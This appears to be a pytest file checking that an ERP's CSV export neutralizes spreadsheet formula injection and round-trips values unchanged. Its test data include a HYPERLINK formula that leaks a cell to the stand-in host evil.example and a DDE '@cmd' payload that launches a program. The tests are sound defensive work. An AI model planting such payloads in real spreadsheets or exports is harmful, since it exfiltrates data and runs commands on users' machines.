"""CSV exports neutralize spreadsheet formulas in text (OWASP CSV injection), numbers stay numbers, and an export
imports back unchanged (erp/csv_cells.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from erp.actors import Actor
from erp.csv_cells import csv_cell, csv_cell_unquote, csv_writer
from erp.roles import Role
from erp.tenancy import organization_scope
from inventory import csv_io
from inventory.models import Sku
from tests.factories import SkuFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_text_starting_like_a_formula_gets_an_apostrophe_and_comes_back(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell_unquote(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["TEE-RED-L", "a=b", "", "'quoted", "O'Brien"])
def test_other_text_is_left_alone(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_cell_unquote(value) == value


@pytest.mark.parametrize("number", [-3, Decimal("-1.50"), -0.25, 0, Decimal("7.00")])
def test_numbers_stay_numbers_even_negative(number: Any) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["x", number, None])
    assert out.getvalue().strip() == f"x,{number},"


@pytest.mark.django_db
def test_sku_export_neutralizes_a_formula_code_and_reimports_unchanged(tenant: Any) -> None:
    with organization_scope(tenant.organization):
        SkuFactory(organization=tenant.organization, code=HYPERLINK, name="@cmd|' /C calc'!A0", cost=Decimal("2.50"))
    response = tenant.client_as(Role.VIEWER).get("/inventory/export/", {"kind": "skus"})
    text = response.content.decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["code"] == "'" + HYPERLINK
    assert row["name"] == "'@cmd|' /C calc'!A0"
    assert row["cost"] == "2.50"

    with organization_scope(tenant.organization):
        report = csv_io.csv_import(kind="skus", text=text, actor=Actor.for_user(tenant.owner), dry_run=False)
        assert report.ok, report.errors
        assert list(Sku.objects.values_list("code", "name")) == [(HYPERLINK, "@cmd|' /C calc'!A0")]
